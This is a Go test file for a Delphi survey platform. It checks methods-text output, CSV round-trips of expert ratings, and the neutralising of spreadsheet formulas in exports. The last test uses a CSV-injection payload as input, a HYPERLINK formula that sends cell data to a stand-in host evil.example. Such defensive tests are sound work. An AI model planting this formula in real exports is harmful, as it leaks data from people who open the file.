package realtime

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/delphi-platform/delphi/analysis"
	"github.com/delphi-platform/delphi/internal/report"
	"github.com/delphi-platform/delphi/rounds"
)

func TestMethodsText(t *testing.T) {
	open := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	closed := time.Date(2026, 12, 15, 18, 0, 0, 0, time.UTC)
	a := Analysis{Mode: "realtime", MinGroup: 3, OpenedAt: &open, ClosedAt: &closed,
		Moments: []Moment{{Round: 1, Kind: "daily", TakenAt: time.Date(2026, 12, 2, 0, 0, 12, 0, time.UTC)},
			{Round: 2, Kind: "close", TakenAt: closed}},
		Revisions: rounds.RevisionCounts{Answered: 51, Revised: 23, RevisedAfterGroup: 19, Changes: 64, ChangesAfterGroup: 50}}
	want := "Real-time Delphi: a single round, open from 2026-12-01 09:00 UTC to 2026-12-15 18:00 UTC. " +
		"After rating a statement, experts saw the panel's current distribution, median, interquartile range and percentage agreement for it, " +
		"once at least 3 other experts had rated it, and could revise their ratings at any time until the round closed. " +
		"The results were analysed at 2 moments (daily 2026-12-02 00:00 UTC; close 2026-12-15 18:00 UTC). " +
		"Of 51 experts who rated, 23 changed at least one rating (64 changes), 19 of them after seeing the panel's figures for that statement (50 changes)."
	if got := a.MethodsText(); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// WriteCSV writes what `delphi analyze` reads back as the same ratings.
func TestWriteCSVReadsBack(t *testing.T) {
	in := &report.Ratings{
		Experts:    []report.Expert{{ID: "E1", Group: "Research", Country: "NL"}, {ID: "E2", Group: "Civil, society", Country: "GR"}},
		Statements: []string{"S1", "S2"},
		HasGroup:   true, HasCountry: true,
		Rounds: []report.Round{
			{Number: 1, Responses: [][]analysis.Response{{analysis.Rating(3), analysis.Unable}, {analysis.Missing, analysis.Rating(5)}}},
			{Number: 2, Responses: [][]analysis.Response{{analysis.Rating(4), analysis.Rating(1)}, {analysis.Rating(2), analysis.Missing}}},
		}}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	back, err := report.ParseRatings(buf.Bytes(), analysis.Scale{Min: 1, Max: 5})
	if err != nil {
		t.Fatalf("%v\n%s", err, buf.String())
	}
	if len(back.Experts) != 2 || back.Experts[1].Group != "Civil, society" || len(back.Rounds) != 2 {
		t.Fatalf("read back %+v", back)
	}
	for r := range in.Rounds {
		for s := range in.Statements {
			for e := range in.Experts {
				if got, want := back.Rounds[r].Responses[s][e], in.Rounds[r].Responses[s][e]; got != want {
					t.Errorf("round %d, %s, %s: %v; want %v", r+1, in.Statements[s], in.Experts[e].ID, got, want)
				}
			}
		}
	}
}

// TestWriteCSVNeutralisesFormulas: a group or country that a spreadsheet
// would run as a formula comes out inert, as in every other CSV export
// (export.Neutralise); `delphi analyze` still reads the file.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	in := &report.Ratings{
		Experts:    []report.Expert{{ID: "E417", Group: formula, Country: "+NL"}, {ID: "E023", Group: "@SUM(1)", Country: "-GR"}},
		Statements: []string{"S1"},
		HasGroup:   true, HasCountry: true,
		Rounds: []report.Round{{Number: 1, Responses: [][]analysis.Response{{analysis.Rating(3), analysis.Rating(4)}}}},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s holds a live formula %q", rows[0][i], cell)
			}
		}
	}
	if rows[1][4] != "'"+formula || rows[1][5] != "'+NL" || rows[2][4] != "'@SUM(1)" {
		t.Errorf("rows %q", rows[1:])
	}
	if _, err := report.ParseRatings(buf.Bytes(), analysis.Scale{Min: 1, Max: 5}); err != nil {
		t.Errorf("delphi analyze cannot read it: %v", err)
	}
}
